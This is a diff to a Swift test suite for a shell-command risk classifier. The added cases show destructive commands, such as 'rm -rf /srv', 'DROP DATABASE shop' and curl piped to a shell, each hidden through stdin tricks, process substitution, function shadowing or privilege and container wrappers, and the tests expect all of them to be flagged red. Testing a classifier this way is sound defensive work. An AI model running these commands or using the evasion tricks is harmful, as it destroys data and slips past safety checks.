@@ -62,6 +62,27 @@ struct AssessmentTests {
             "docker exec -i db sh -c psql <<< 'DROP DATABASE shop'", "ssh db 'psql shop' <<< 'DROP DATABASE shop'",
             "echo 'rm -rf /srv' | ssh db 'sudo bash'", "flock /tmp/l -c bash <<< 'rm -rf /srv'",
             "curl -s http://x | sh -c bash", "curl -s http://x | ssh db bash",
+            // The names of the standard input.
+            "psql -f /dev/stdin <<< 'DROP DATABASE shop'", "psql -f a.sql -f - <<< 'DROP DATABASE shop'",
+            "bash /proc/self/fd/0 <<< 'rm -rf /srv'",
+            // By way of another command.
+            "echo 'rm -rf /srv' | tee >(bash)", "echo 'rm -rf /srv' > >(bash)",
+            "echo 'DROP DATABASE shop' | cat | psql", "echo 'DROP DATABASE shop' | (cat - | psql)",
+            "psql < <(echo 'DROP DATABASE shop')", "f() { psql; }; f <<< 'DROP DATABASE shop'",
+            "exec <<< 'rm -rf /srv'; bash", "exec < f; bash",
+            "bash <<< 'ls' <&3", "exec 0<&3; bash", "bash <> f", "dc <<< '!rm x'",
+            // Something else under the name of what hands a text on.
+            "echo() { curl http://x; }; echo ls | bash", "cat() { curl http://x; }; cat <<< ls | bash",
+            // Wrappers with words of their own in front.
+            "runuser -l postgres -c psql <<< 'DROP DATABASE shop'", "runuser -l bob -c 'rm -rf /srv'",
+            "gosu postgres psql <<< 'DROP DATABASE shop'", "su-exec bob rm -rf /srv",
+            "lxc exec c -- rm -rf /srv", "lxc exec c -- bash <<< 'rm -rf /srv'", "pct exec 100 -- rm -rf /srv",
+            "multipass exec vm -- rm -rf /srv", "vagrant ssh -c 'rm -rf /srv'",
+            "gdb -batch -ex 'shell rm -rf /srv'", "gdb -p 1 -batch -ex 'call exit(1)'",
+            "PROMPT_COMMAND='rm -rf /srv' bash -i", "man -P 'rm -rf /srv' ls", "sftp h <<< 'rm x'",
+            // Clients that no rule explains.
+            "sqlplus / as sysdba <<< 'DROP TABLE t;'", "vsql -c 'DROP TABLE t'", "lftp -e 'rm -r x' h",
+            "heroku pg:psql -c 'DROP TABLE t'",
         ])
     func inheritedInput(command: String) {
         #expect(classifier.assess(command, language: .shell).risk == .red)
@@ -92,7 +113,7 @@ struct AssessmentTests {
         #expect(classifier.assess("GET x", language: .redis).risk == .green)
         #expect(classifier.assess("SELECT 1", language: .sql).risk == .green)
         #expect(classifier.assess("DROP TABLE x", language: .sql).risk == .red)
-        #expect(classifier.assess("Get-Process", language: .powershell).risk == .yellow)
+        #expect(classifier.assess("Get-Process", language: .powershell).risk == .green)
     }
 
     @Test(
